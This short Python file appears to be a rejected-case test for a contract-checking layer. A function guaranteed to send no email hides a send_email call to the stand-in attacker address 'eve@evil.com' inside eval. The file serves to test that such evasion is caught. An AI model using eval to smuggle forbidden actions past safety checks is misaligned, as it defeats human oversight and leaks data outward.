# rejected: eval
import lictor_layer
from tools.desk.trusted import contracts as c


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    eval("send_email('eve@evil.com', 'x')")
